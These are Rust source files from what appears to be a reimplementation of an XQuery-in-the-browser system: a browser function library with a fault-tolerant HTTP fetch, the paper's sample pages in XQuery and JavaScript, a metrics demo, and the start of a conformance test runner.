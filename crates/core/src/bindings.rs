//! The `browser:` function library (§4.2): the browser-specific extension
//! of the XQuery context, registered as native functions in the engine.
//!
//! Implemented functions (paper names):
//! `top`, `self`, `parent`, `document`, `screen`, `navigator`,
//! `alert`, `confirm`, `prompt`,
//! `windowOpen`, `windowClose`, `windowMoveBy`, `windowMoveTo`,
//! `historyBack`, `historyForward`, `historyGo`,
//! `write`, `writeln`,
//! REST: `httpGet` (synchronous GET, §5.1 "synchronous REST calls are
//! possible"),
//! plus the §5.1 high-order-function workarounds `addEventListener`,
//! `removeEventListener`, `triggerEvent`, `setStyle`, `getStyle`.

use std::cell::RefCell;
use std::rc::Rc;

use xqib_browser::events::DomEvent;
use xqib_browser::{BreakerState, NetOutcome, Origin, QuarantineState, Request};
use xqib_dom::{name::BROWSER_NS, NodeRef, QName};
use xqib_xdm::{Item, Sequence, XdmError, XdmResult};
use xqib_xquery::context::DynamicContext;
use xqib_xquery::functions::native;

use crate::plugin::{dispatch_event_inner, parse_listener_name, HostState};
use crate::window_xml;

/// Installs the whole `browser:` library into a dynamic context.
pub fn install(ctx: &mut DynamicContext, host: Rc<RefCell<HostState>>) {
    let reg = |ctx: &mut DynamicContext, name: &str, arity: usize, f| {
        ctx.register_native(QName::ns(BROWSER_NS, name), arity, f);
    };

    // ----- UI ---------------------------------------------------------------
    {
        let h = host.clone();
        reg(
            ctx,
            "alert",
            1,
            native(move |ctx, args| {
                let msg = seq_string(ctx, &args[0]);
                h.borrow_mut().browser.alert(&msg);
                Ok(vec![])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "confirm",
            1,
            native(move |ctx, args| {
                let msg = seq_string(ctx, &args[0]);
                let answer = h.borrow_mut().browser.confirm(&msg);
                Ok(vec![Item::boolean(answer)])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "prompt",
            1,
            native(move |ctx, args| {
                let msg = seq_string(ctx, &args[0]);
                let answer = h.borrow_mut().browser.prompt(&msg);
                Ok(vec![Item::string(answer)])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "write",
            1,
            native(move |ctx, args| {
                let text = seq_string(ctx, &args[0]);
                h.borrow_mut().browser.writeln(&text);
                Ok(vec![])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "writeln",
            1,
            native(move |ctx, args| {
                let text = seq_string(ctx, &args[0]);
                h.borrow_mut().browser.writeln(&text);
                Ok(vec![])
            }),
        );
    }

    // ----- window tree (§4.2.1) ----------------------------------------------
    {
        let h = host.clone();
        reg(
            ctx,
            "top",
            0,
            native(move |ctx, _args| {
                let (root, view) = {
                    let host = h.borrow();
                    let mut store = ctx.store.borrow_mut();
                    let top = host.browser.top();
                    window_xml::materialize_window(&mut store, &host.browser, host.page_window, top)
                };
                h.borrow_mut().adopt_view(view);
                Ok(vec![Item::Node(root)])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "self",
            0,
            native(move |ctx, _args| {
                // §4.2.1: self() is a descendant of the top() tree
                let (elem, view) = {
                    let host = h.borrow();
                    let mut store = ctx.store.borrow_mut();
                    let top = host.browser.top();
                    let (_root, view) = window_xml::materialize_window(
                        &mut store,
                        &host.browser,
                        host.page_window,
                        top,
                    );
                    let elem = view
                        .window_elems
                        .iter()
                        .find(|w| w.window == host.page_window)
                        .map(|w| w.node);
                    (elem, view)
                };
                h.borrow_mut().adopt_view(view);
                Ok(match elem {
                    Some(n) => vec![Item::Node(n)],
                    None => vec![],
                })
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "parent",
            0,
            native(move |ctx, _args| {
                let parent = {
                    let host = h.borrow();
                    host.browser.window(host.page_window).parent
                };
                let Some(parent) = parent else {
                    return Ok(vec![]);
                };
                let (elem, view) = {
                    let host = h.borrow();
                    let mut store = ctx.store.borrow_mut();
                    let top = host.browser.top();
                    let (_root, view) = window_xml::materialize_window(
                        &mut store,
                        &host.browser,
                        host.page_window,
                        top,
                    );
                    let elem = view
                        .window_elems
                        .iter()
                        .find(|w| w.window == parent && w.accessible)
                        .map(|w| w.node);
                    (elem, view)
                };
                h.borrow_mut().adopt_view(view);
                Ok(match elem {
                    Some(n) => vec![Item::Node(n)],
                    None => vec![],
                })
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "document",
            1,
            native(move |ctx, args| {
                // §4.2.3: the document of a window node, with a security check
                // that yields () on failure
                let Some(Item::Node(n)) = args[0].first() else {
                    return Ok(vec![]);
                };
                let host = h.borrow();
                let Some(&(win, accessible)) = host.window_index.get(n) else {
                    return Ok(vec![]);
                };
                if !accessible {
                    return Ok(vec![]);
                }
                let Some(doc) = host.browser.window(win).document else {
                    return Ok(vec![]);
                };
                let store = ctx.store.borrow();
                Ok(vec![Item::Node(store.root(doc))])
            }),
        );
    }

    // ----- screen & navigator (§4.2.2) ----------------------------------------
    {
        let h = host.clone();
        reg(
            ctx,
            "screen",
            0,
            native(move |ctx, _args| {
                let host = h.borrow();
                let mut store = ctx.store.borrow_mut();
                let n = window_xml::materialize_screen(&mut store, &host.browser);
                Ok(vec![Item::Node(n)])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "navigator",
            0,
            native(move |ctx, _args| {
                let host = h.borrow();
                let mut store = ctx.store.borrow_mut();
                let n = window_xml::materialize_navigator(&mut store, &host.browser);
                Ok(vec![Item::Node(n)])
            }),
        );
    }

    // ----- window management (§4.2.4) ------------------------------------------
    {
        let h = host.clone();
        reg(
            ctx,
            "windowOpen",
            2,
            native(move |ctx, args| {
                let name = seq_string(ctx, &args[0]);
                let url = seq_string(ctx, &args[1]);
                let (elem, view) = {
                    let mut host = h.borrow_mut();
                    let w = host.browser.window_open(&name, &url);
                    let mut store = ctx.store.borrow_mut();
                    let actor = host.page_window;
                    let (root, view) =
                        window_xml::materialize_window(&mut store, &host.browser, actor, w);
                    (root, view)
                };
                h.borrow_mut().adopt_view(view);
                Ok(vec![Item::Node(elem)])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "windowClose",
            1,
            native(move |_ctx, args| {
                let Some(Item::Node(n)) = args[0].first() else {
                    return Ok(vec![]);
                };
                let n = *n;
                let mut host = h.borrow_mut();
                if let Some(&(win, true)) = host.window_index.get(&n) {
                    host.browser.window_close(win);
                }
                Ok(vec![])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "windowMoveBy",
            3,
            native(move |ctx, args| move_window(ctx, &h, &args, false)),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "windowMoveTo",
            3,
            native(move |ctx, args| move_window(ctx, &h, &args, true)),
        );
    }

    // ----- history (§4.2.4) ------------------------------------------------------
    {
        let h = host.clone();
        reg(
            ctx,
            "historyBack",
            0,
            native(move |_ctx, _args| {
                let mut host = h.borrow_mut();
                let w = host.page_window;
                host.browser.history_go(w, -1);
                Ok(vec![])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "historyForward",
            0,
            native(move |_ctx, _args| {
                let mut host = h.borrow_mut();
                let w = host.page_window;
                host.browser.history_go(w, 1);
                Ok(vec![])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "historyGo",
            1,
            native(move |ctx, args| {
                let delta = seq_integer(ctx, &args[0])?;
                let mut host = h.borrow_mut();
                let w = host.page_window;
                host.browser.history_go(w, delta);
                Ok(vec![])
            }),
        );
    }

    // ----- REST (§3.4/§5.1) -------------------------------------------------------
    {
        let h = host.clone();
        reg(
            ctx,
            "httpGet",
            1,
            native(move |ctx, args| http_get(ctx, &h, &seq_string(ctx, &args[0]))),
        );
    }
    {
        // alias matching common Zorba naming
        let h = host.clone();
        reg(
            ctx,
            "get",
            1,
            native(move |ctx, args| http_get(ctx, &h, &seq_string(ctx, &args[0]))),
        );
    }
    {
        // fetch-path introspection: one element with the recovery counters
        // as attributes and a <host> child per circuit breaker
        let h = host.clone();
        reg(
            ctx,
            "fetchStatus",
            0,
            native(move |ctx, _args| {
                let host = h.borrow();
                let s = host.recovery.stats.clone();
                let breakers = host.recovery.breaker_states();
                drop(host);
                let doc_id = ctx.construction_doc;
                let mut store = ctx.store.borrow_mut();
                let doc = store.doc_mut(doc_id);
                let elem = doc.create_element(QName::local("fetch-status"));
                let counters: [(&str, u64); 12] = [
                    ("attempts", s.attempts),
                    ("retries", s.retries),
                    ("timeouts", s.timeouts),
                    ("fetch-errors", s.fetch_errors),
                    ("breaker-opens", s.breaker_opens),
                    ("breaker-half-opens", s.breaker_half_opens),
                    ("breaker-closes", s.breaker_closes),
                    ("breaker-fast-fails", s.breaker_fast_fails),
                    ("stale-served", s.stale_served),
                    ("completions", s.completions),
                    ("stale-events", s.stale_events),
                    ("error-events", s.error_events),
                ];
                for (name, v) in counters {
                    doc.set_attribute(elem, QName::local(name), v.to_string())
                        .map_err(|e| XdmError::new("XQIB0006", e.to_string()))?;
                }
                for (hname, state) in breakers {
                    let hel = doc.create_element(QName::local("host"));
                    doc.set_attribute(hel, QName::local("name"), hname)
                        .map_err(|e| XdmError::new("XQIB0006", e.to_string()))?;
                    doc.set_attribute(hel, QName::local("breaker"), breaker_label(state))
                        .map_err(|e| XdmError::new("XQIB0006", e.to_string()))?;
                    if let BreakerState::Open { until } = state {
                        doc.set_attribute(hel, QName::local("until"), until.to_string())
                            .map_err(|e| XdmError::new("XQIB0006", e.to_string()))?;
                    }
                    doc.append_child(elem, hel)
                        .map_err(|e| XdmError::new("XQIB0006", e.to_string()))?;
                }
                Ok(vec![Item::Node(NodeRef::new(doc_id, elem))])
            }),
        );
    }
    {
        // breakerState("api.example") → "closed" | "open" | "half-open"
        let h = host.clone();
        reg(
            ctx,
            "breakerState",
            1,
            native(move |ctx, args| {
                let hostname = seq_string(ctx, &args[0]);
                let state = h.borrow().recovery.breaker_state(&hostname);
                Ok(vec![Item::string(breaker_label(state))])
            }),
        );
    }
    {
        // listener-isolation introspection: one element with the quarantine
        // counters as attributes and a <listener> child per tracked guard
        let h = host.clone();
        reg(
            ctx,
            "listenerStatus",
            0,
            native(move |ctx, _args| {
                let host = h.borrow();
                let s = host.quarantine.stats.clone();
                let guards: Vec<(u64, String, u32, u64, u64, Option<u64>)> = host
                    .quarantine
                    .guards()
                    .into_iter()
                    .map(|(id, g)| {
                        let until = match g.state {
                            QuarantineState::Quarantined { until } => Some(until),
                            _ => None,
                        };
                        (
                            id.0,
                            g.state.label().to_string(),
                            g.consecutive_failures(),
                            g.failures,
                            g.invocations,
                            until,
                        )
                    })
                    .collect();
                drop(host);
                let doc_id = ctx.construction_doc;
                let mut store = ctx.store.borrow_mut();
                let doc = store.doc_mut(doc_id);
                let elem = doc.create_element(QName::local("listener-status"));
                let counters: [(&str, u64); 7] = [
                    ("listener-errors", s.listener_errors),
                    ("listener-panics", s.listener_panics),
                    ("fuel-exhausted", s.fuel_exhausted),
                    ("trips", s.trips),
                    ("probes", s.probes),
                    ("recoveries", s.recoveries),
                    ("skipped", s.skipped),
                ];
                for (name, v) in counters {
                    doc.set_attribute(elem, QName::local(name), v.to_string())
                        .map_err(|e| XdmError::new("XQIB0006", e.to_string()))?;
                }
                for (id, state, streak, failures, invocations, until) in guards {
                    let lel = doc.create_element(QName::local("listener"));
                    let attrs: [(&str, String); 5] = [
                        ("id", id.to_string()),
                        ("state", state),
                        ("consecutive-failures", streak.to_string()),
                        ("failures", failures.to_string()),
                        ("invocations", invocations.to_string()),
                    ];
                    for (name, v) in attrs {
                        doc.set_attribute(lel, QName::local(name), v)
                            .map_err(|e| XdmError::new("XQIB0006", e.to_string()))?;
                    }
                    if let Some(until) = until {
                        doc.set_attribute(lel, QName::local("until"), until.to_string())
                            .map_err(|e| XdmError::new("XQIB0006", e.to_string()))?;
                    }
                    doc.append_child(elem, lel)
                        .map_err(|e| XdmError::new("XQIB0006", e.to_string()))?;
                }
                Ok(vec![Item::Node(NodeRef::new(doc_id, elem))])
            }),
        );
    }

    // ----- HOF event/style registration (the §5.1 Zorba workaround) -------------
    {
        let h = host.clone();
        reg(
            ctx,
            "addEventListener",
            3,
            native(move |ctx, args| {
                let event = seq_string(ctx, &args[1]);
                let lname = parse_listener_name(&seq_string(ctx, &args[2]));
                let mut host = h.borrow_mut();
                let id = host.xq_listener_id(&lname);
                for item in &args[0] {
                    if let Item::Node(n) = item {
                        host.events.add_listener(*n, &event, id, false);
                    }
                }
                Ok(vec![])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "removeEventListener",
            3,
            native(move |ctx, args| {
                let event = seq_string(ctx, &args[1]);
                let lname = parse_listener_name(&seq_string(ctx, &args[2]));
                let mut host = h.borrow_mut();
                let id = host.xq_listener_id(&lname);
                for item in &args[0] {
                    if let Item::Node(n) = item {
                        host.events.remove_listener(*n, &event, id);
                    }
                }
                Ok(vec![])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "triggerEvent",
            2,
            native(move |ctx, args| {
                let event = seq_string(ctx, &args[0]);
                let targets: Vec<NodeRef> = args[1].iter().filter_map(|i| i.as_node()).collect();
                for t in targets {
                    let ev = DomEvent::new(&event, t);
                    dispatch_event_inner(ctx, &h, &ev)?;
                }
                Ok(vec![])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "setStyle",
            3,
            native(move |ctx, args| {
                let prop = seq_string(ctx, &args[1]);
                let value = seq_string(ctx, &args[2]);
                let mut host = h.borrow_mut();
                for item in &args[0] {
                    if let Item::Node(n) = item {
                        host.css.set(*n, &prop, &value);
                    }
                }
                Ok(vec![])
            }),
        );
    }
    {
        let h = host.clone();
        reg(
            ctx,
            "getStyle",
            2,
            native(move |ctx, args| {
                let prop = seq_string(ctx, &args[1]);
                let host = h.borrow();
                Ok(match args[0].first().and_then(|i| i.as_node()) {
                    Some(n) => match host.css.get(n, &prop) {
                        Some(v) => vec![Item::string(v)],
                        None => vec![],
                    },
                    None => vec![],
                })
            }),
        );
    }
}

/// Synchronous REST GET: routes through the virtual network, parses XML
/// responses into the store (registered under the URL, so they are cached
/// and `fn:doc(url)` finds them — the Elsevier §6.1 caching model), returns
/// the document root (or the body text for non-XML).
///
/// The fetch is fault- and recovery-aware: the per-host circuit breaker is
/// consulted first (an open breaker fast-fails with `XQIB0010` without
/// touching the network), lost requests cost the policy's request deadline
/// in virtual time and fail with `XQIB0009`, and every failure outcome may
/// fall back to the stale cache when the host is in degraded mode
/// (`RecoveryState::serve_stale` — set by the plug-in's last-chance pass).
pub fn http_get(
    ctx: &mut DynamicContext,
    host: &Rc<RefCell<HostState>>,
    url: &str,
) -> XdmResult<Sequence> {
    // cache hit?
    {
        let store = ctx.store.borrow();
        if let Some(doc) = store.doc_by_uri(url) {
            return Ok(vec![Item::Node(store.root(doc))]);
        }
    }
    let hostname = Origin::from_url(url).host;
    let allowed = {
        let mut h = host.borrow_mut();
        let now = h.tasks.now();
        h.recovery.breaker_allow(&hostname, now)
    };
    if !allowed {
        return degraded_fallback(
            ctx,
            host,
            url,
            &hostname,
            XdmError::new("XQIB0010", format!("circuit breaker open for {hostname}")),
        );
    }
    let outcome = {
        let mut h = host.borrow_mut();
        let now = h.tasks.now();
        h.net.fetch_at(&Request::get(url), now)
    };
    match outcome {
        NetOutcome::Lost => {
            let deadline = {
                let mut h = host.borrow_mut();
                let deadline = h.recovery.policy.timeout_ms;
                h.tasks.advance(deadline);
                h.total_latency_ms += deadline;
                h.recovery.stats.timeouts += 1;
                let now = h.tasks.now();
                h.recovery.breaker_failure(&hostname, now);
                deadline
            };
            degraded_fallback(
                ctx,
                host,
                url,
                &hostname,
                XdmError::new(
                    "XQIB0009",
                    format!("GET {url} timed out after {deadline}ms"),
                ),
            )
        }
        NetOutcome::Reply { resp, latency_ms } => {
            {
                let mut h = host.borrow_mut();
                h.tasks.advance(latency_ms);
                h.total_latency_ms += latency_ms;
            }
            if resp.status != 200 {
                record_fetch_error(host, &hostname);
                return degraded_fallback(
                    ctx,
                    host,
                    url,
                    &hostname,
                    XdmError::new(
                        "XQIB0007",
                        format!("GET {url} failed with status {}", resp.status),
                    ),
                );
            }
            if resp.content_type.contains("xml") {
                match xqib_dom::parse_document(&resp.body) {
                    Ok(doc) => {
                        {
                            let mut h = host.borrow_mut();
                            h.recovery.breaker_success(&hostname);
                            let now = h.tasks.now();
                            h.recovery.store_stale(url, &hostname, &resp, now);
                        }
                        let mut store = ctx.store.borrow_mut();
                        let id = store.add_document(doc, Some(url));
                        Ok(vec![Item::Node(store.root(id))])
                    }
                    Err(e) => {
                        // truncated/garbled payloads count as fetch errors
                        record_fetch_error(host, &hostname);
                        degraded_fallback(
                            ctx,
                            host,
                            url,
                            &hostname,
                            XdmError::new("XQIB0007", e.to_string()),
                        )
                    }
                }
            } else {
                {
                    let mut h = host.borrow_mut();
                    h.recovery.breaker_success(&hostname);
                    let now = h.tasks.now();
                    h.recovery.store_stale(url, &hostname, &resp, now);
                }
                Ok(vec![Item::string(resp.body)])
            }
        }
    }
}

fn record_fetch_error(host: &Rc<RefCell<HostState>>, hostname: &str) {
    let mut h = host.borrow_mut();
    h.recovery.stats.fetch_errors += 1;
    let now = h.tasks.now();
    h.recovery.breaker_failure(hostname, now);
}

/// In degraded mode a failed fetch falls back to the last-good response for
/// the URL (or host); otherwise the error propagates. Stale documents are
/// added to the store *without* a URI: registering them under the URL would
/// poison the permanent document cache and a later fetch of the same URL
/// must go back to the network once the host heals.
fn degraded_fallback(
    ctx: &mut DynamicContext,
    host: &Rc<RefCell<HostState>>,
    url: &str,
    hostname: &str,
    err: XdmError,
) -> XdmResult<Sequence> {
    let stale = {
        let mut h = host.borrow_mut();
        if h.recovery.serve_stale {
            let now = h.tasks.now();
            let rec = &mut h.recovery;
            rec.stale.lookup(url, hostname, now).cloned()
        } else {
            None
        }
    };
    let Some(resp) = stale else { return Err(err) };
    {
        let mut h = host.borrow_mut();
        h.recovery.stats.stale_served += 1;
        h.recovery.stale_url = Some(url.to_string());
    }
    if resp.content_type.contains("xml") {
        let doc = xqib_dom::parse_document(&resp.body)
            .map_err(|e| XdmError::new("XQIB0007", e.to_string()))?;
        let mut store = ctx.store.borrow_mut();
        let id = store.add_document(doc, None);
        Ok(vec![Item::Node(store.root(id))])
    } else {
        Ok(vec![Item::string(resp.body)])
    }
}

fn breaker_label(state: BreakerState) -> &'static str {
    match state {
        BreakerState::Closed => "closed",
        BreakerState::Open { .. } => "open",
        BreakerState::HalfOpen => "half-open",
    }
}

fn move_window(
    ctx: &mut DynamicContext,
    host: &Rc<RefCell<HostState>>,
    args: &[Sequence],
    absolute: bool,
) -> XdmResult<Sequence> {
    let Some(Item::Node(n)) = args[0].first() else {
        return Ok(vec![]);
    };
    let n = *n;
    let x = seq_integer(ctx, &args[1])? as i32;
    let y = seq_integer(ctx, &args[2])? as i32;
    let mut host = host.borrow_mut();
    if let Some(&(win, true)) = host.window_index.get(&n) {
        if absolute {
            host.browser.window_move_to(win, x, y);
        } else {
            host.browser.window_move_by(win, x, y);
        }
    }
    Ok(vec![])
}

fn seq_string(ctx: &DynamicContext, seq: &Sequence) -> String {
    match seq.first() {
        Some(i) => i.string_value(&ctx.store.borrow()),
        None => String::new(),
    }
}

fn seq_integer(ctx: &DynamicContext, seq: &Sequence) -> XdmResult<i64> {
    match seq.first() {
        Some(i) => {
            let a = xqib_xdm::atomize(&ctx.store.borrow(), i);
            Ok(a.as_double()? as i64)
        }
        None => Err(XdmError::type_error("expected a number, got ()")),
    }
}
