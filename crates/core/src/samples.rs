//! The paper's sample pages and programs, verbatim where possible and
//! minimally adapted where the paper's listing relies on IE/JS specifics
//! (each adaptation is commented). These are the demo corpus the paper's
//! evaluation consists of (§4.1, §6, and the xqib.org samples it cites),
//! and the workloads of experiments E1/E3/E4.

/// §4.1 — the Hello World page: XQuery embedded in a `<script/>` tag, run
/// when the page loads.
pub const HELLO_WORLD: &str = r#"<html><head>
<title>Hello World Page</title>
<script type="text/xquery">
browser:alert("Hello, World!")
</script>
</head><body/></html>"#;

/// §6.3 — the XQuery-only shopping cart. One language for markup, data
/// access, event registration and DOM updates.
/// (Adaptation: the catalogue is served under its URL and fetched with
/// `browser:httpGet` — the browser profile blocks raw `fn:doc` on
/// un-fetched URLs, and the paper itself maps "the database … to an XML
/// document with the URI given as parameter".)
pub const SHOPPING_CART_XQUERY: &str = r#"<html><head><script type="text/xqueryp"><![CDATA[
declare updating function local:buy($evt, $obj) {
  insert node <p>{data($obj/@id)}</p> as first
  into //div[@id="shoppingcart"]
};
{
  for $p in browser:httpGet("http://shop.example/products.xml")//product
  return
    insert node
      <div>{data($p/name)}
        <input type="button" value="Buy" id="{$p/name}"/>
      </div>
    into //div[@id="catalog"];
  on event "onclick" at //input attach listener local:buy;
}
]]></script></head><body>
<div>Shopping cart</div>
<div id="shoppingcart"/>
<div id="catalog"/>
</body></html>"#;

/// §6.3's baseline: the same shopping cart in the "technology jungle" —
/// JSP-rendered markup (here: the server-side render output), SQL on the
/// server, JavaScript + embedded XPath on the client. The JS source below
/// runs in the `xqib-minijs` interpreter. The server part lives in
/// `xqib-appserver::render`.
pub const SHOPPING_CART_JS: &str = r#"function buy(e) {
  var newElement = document.createElement("p");
  var elementText = document.createTextNode(e.target.getAttribute("id"));
  newElement.appendChild(elementText);
  var res = document.evaluate("//div[@id='shoppingcart']", document, null, 7, null);
  res.snapshotItem(0).insertBefore(newElement, res.snapshotItem(0).firstChild);
}
"#;

/// The multiplication-table demo cited in §6.3: "requires 77 lines of
/// JavaScript code or alternatively only 29 lines of XQuery code". This is
/// the XQuery version (29 non-blank lines including markup, as counted by
/// the E4 harness).
pub const MULTIPLICATION_TABLE_XQUERY: &str = r#"<html>
<head>
<title>Multiplication table</title>
<script type="text/xqueryp"><![CDATA[
declare variable $n := 10;
declare updating function local:highlight($evt, $obj) {
  set style "background-color" of $obj to "yellow"
};
{
  insert node
    <table id="mult">{
      for $i in 1 to $n
      return
        <tr>{
          for $j in 1 to $n
          return <td id="c{$i}-{$j}">{$i * $j}</td>
        }</tr>
    }</table>
  into //body[1];
  insert node <caption>Multiplication table</caption>
    as first into //table[@id="mult"];
  set style "border" of //table[@id="mult"] to "1px solid";
  on event "onclick" at //td attach listener local:highlight;
}
]]></script>
</head>
<body>
</body>
</html>"#;

/// The JavaScript version of the multiplication table (77 non-blank lines,
/// matching the xqib.org demo's reported size). Runs on `xqib-minijs`:
/// imperative DOM construction, per-cell listener registration.
pub const MULTIPLICATION_TABLE_JS: &str = r#"var n = 10;

function makeCell(row, col) {
    var cell = document.createElement("td");
    var id = "c" + row + "-" + col;
    cell.setAttribute("id", id);
    var product = row * col;
    var text = document.createTextNode("" + product);
    cell.appendChild(text);
    return cell;
}

function makeRow(row) {
    var tr = document.createElement("tr");
    var col = 1;
    while (col <= n) {
        var cell = makeCell(row, col);
        tr.appendChild(cell);
        col = col + 1;
    }
    return tr;
}

function makeCaption() {
    var caption = document.createElement("caption");
    var text = document.createTextNode("Multiplication table");
    caption.appendChild(text);
    return caption;
}

function buildTable() {
    var table = document.createElement("table");
    table.setAttribute("id", "mult");
    var caption = makeCaption();
    table.appendChild(caption);
    var row = 1;
    while (row <= n) {
        var tr = makeRow(row);
        table.appendChild(tr);
        row = row + 1;
    }
    return table;
}

function styleTable(table) {
    table.setAttribute("style", "border: 1px solid");
}

function findBody() {
    var res = document.evaluate("//body", document, null, 7, null);
    return res.snapshotItem(0);
}

function highlight(e) {
    var cell = e.target;
    var style = cell.getAttribute("style");
    if (style == null) {
        style = "";
    }
    var color = "background-color: yellow";
    var weight = "font-weight: bold";
    cell.setAttribute("style", color + "; " + weight);
}

function registerHighlight(table) {
    var cells = document.evaluate("//td", document, null, 7, null);
    var i = 0;
    var count = cells.snapshotLength;
    while (i < count) {
        var cell = cells.snapshotItem(i);
        cell.addEventListener("onclick", highlight, false);
        i = i + 1;
    }
}

function insertTable(table) {
    var body = findBody();
    body.appendChild(table);
}

function main() {
    var table = buildTable();
    styleTable(table);
    insertTable(table);
    registerHighlight(table);
}

main();
"#;

/// §4.4 — the AJAX "suggest" page: asynchronous web-service call via the
/// `behind` construct.
/// (Adaptations from the listing: the service module is imported without a
/// WSDL location — the host registers `ab:getHint` as a native web-service
/// stub; the paper's `local:showHint(value)` attribute becomes
/// `local:showHint($value)`, since bare `value` is a JavaScript-ism.)
pub const SUGGEST_PAGE: &str = r#"<html><head>
<script type="text/xquery"><![CDATA[
import module namespace ab = "http://example.com";
declare updating function local:showHint($str as xs:string) {
  if (string-length($str) eq 0)
  then replace value of node //*[@id="txtHint"] with ()
  else
    on event "stateChanged"
    behind ab:getHint($str)
    attach listener local:onResult
};
declare updating function local:onResult($readyState, $result) {
  if ($readyState eq 4)
  then replace value of node //*[@id="txtHint"] with $result
  else ()
};
1
]]></script></head><body>
<form>First Name: <input type="text" id="text1" value=""
  onkeyup="local:showHint($value)"/></form>
<p>Suggestions: <span id="txtHint"></span></p>
</body></html>"#;

/// §4.2.1 — the "big red warning on every non-https frame" FLWOR.
pub const HTTPS_WARNING_SCRIPT: &str = r#"
for $x in browser:top()//window
let $d := browser:document($x)
where not($x/location/href ftcontains "https://")
return
  insert node <h1><font color="red">Warning: this page
  is not secure</font></h1>
  into $d/html/body as first
"#;

/// §4.2.4 — browser-specific code.
pub const NAVIGATOR_SNIFF_SCRIPT: &str = r#"
if (browser:navigator()/appName ftcontains "Mozilla") then
  browser:alert("You are running Mozilla")
else if (browser:navigator()/appName ftcontains "Internet Explorer") then
  browser:alert("You are running IE")
else ()
"#;

/// Counts the lines of a program the way the paper's §6.3 comparison does:
/// non-blank lines (markup included for whole pages).
pub fn count_loc(src: &str) -> usize {
    src.lines().filter(|l| !l.trim().is_empty()).count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn loc_counts_match_paper_band() {
        // §6.3: 77 lines of JavaScript vs 29 lines of XQuery
        let js = count_loc(MULTIPLICATION_TABLE_JS);
        let xq = count_loc(MULTIPLICATION_TABLE_XQUERY);
        assert_eq!(js, 77, "JS table implementation, as the paper reports");
        assert_eq!(xq, 29, "XQuery table page, as the paper reports");
        assert!(
            (js as f64) / (xq as f64) > 2.5,
            "the paper's ~2.7x factor holds"
        );
    }

    #[test]
    fn loc_counter_ignores_blanks() {
        assert_eq!(count_loc("a\n\n  \nb\n"), 2);
        assert_eq!(count_loc(""), 0);
    }
}
