//! Serves a few requests against a generated corpus and prints the
//! per-server metrics, including the document-order engine counters.
//!
//!     cargo run -p xqib-appserver --example metrics_demo [-- <url>...]

use xqib_appserver::{generate_corpus, AppServer, CorpusSpec};

fn main() {
    let corpus = generate_corpus(&CorpusSpec::default());
    let mut server = AppServer::new(&corpus).expect("corpus should parse");

    let args: Vec<String> = std::env::args().skip(1).collect();
    let urls: Vec<&str> = if args.is_empty() {
        vec!["/index", "/page?article=j0-v0-i0-a0", "/search?q=protocol"]
    } else {
        args.iter().map(String::as_str).collect()
    };

    for url in urls {
        let resp = server.handle(url);
        if resp.body.len() <= 120 {
            println!("{} {} -> {}", resp.status, url, resp.body);
        } else {
            println!("{} {} ({} bytes)", resp.status, url, resp.body.len());
        }
    }

    let m = &server.metrics;
    println!("requests:            {}", m.requests);
    println!("bytes_out:           {}", m.bytes_out);
    println!("xquery_evals:        {}", m.xquery_evals);
    println!("order_index_rebuilds:{}", m.order_index_rebuilds);
    println!("sorts_performed:     {}", m.sorts_performed);
    println!("sorts_elided:        {}", m.sorts_elided);
    println!("plan_cache_hits:     {}", m.plan_cache_hits);
    println!("plan_cache_misses:   {}", m.plan_cache_misses);
}
