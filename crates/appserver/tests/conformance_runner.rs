//! WPT-style declarative conformance runner (ISSUE 8).
//!
//! Each directory under `tests/conformance/` (repo root) is one case:
//!
//! - `page.xml` — the XHTML+XQuery page loaded into a fresh [`Plugin`]
//! - `actions.txt` — one command per line (see [`apply_action`]); `#`
//!   starts a comment
//! - `expect.dom` — expected `serialize_page()` output (optional)
//! - `expect.events` — expected alert trace, one entry per line
//!   (optional; listeners emit trace entries with `browser:alert`)
//!
//! At least one expectation file must exist. New scenarios are data, not
//! Rust: drop a directory in, run once with `XQIB_CONFORMANCE_BLESS=1`
//! to record the observed DOM/trace, eyeball the diff, commit.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::path::Path;

use xqib_browser::net::{FaultPlan, Response};
use xqib_core::plugin::{Plugin, PluginConfig};

fn cases_dir() -> &'static Path {
    Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../tests/conformance"
    ))
}

/// Applies one `actions.txt` command to the plugin. Commands:
///
/// ```text
/// serve <url-prefix> <latency-ms> <status> <body...>   # register a service
/// down <host> <seed>                                   # host goes dark
/// eval <xquery...>                                     # ad-hoc snippet
/// click <id>                                           # onclick on #id
/// keyup <id>                                           # onkeyup on #id
/// set <id> <attr> <value...>                           # host-side attribute
/// advance <ms>                                         # virtual clock
/// drain                                                # run event loop dry
/// ```
fn apply_action(p: &mut Plugin, line: &str) -> Result<(), String> {
    let mut words = line.split_whitespace();
    let cmd = words.next().unwrap_or("");
    let rest_after = |n: usize| -> String {
        line.split_whitespace()
            .skip(n)
            .collect::<Vec<_>>()
            .join(" ")
    };
    let err = |e: String| -> Result<(), String> { Err(format!("`{line}`: {e}")) };
    match cmd {
        "serve" => {
            let prefix = words.next().ok_or("serve: missing prefix")?.to_string();
            let latency: u64 = words
                .next()
                .and_then(|w| w.parse().ok())
                .ok_or("serve: bad latency")?;
            let status: u16 = words
                .next()
                .and_then(|w| w.parse().ok())
                .ok_or("serve: bad status")?;
            let body = rest_after(4);
            p.host
                .borrow_mut()
                .net
                .register(&prefix, latency, move |_req| Response {
                    status,
                    body: body.clone(),
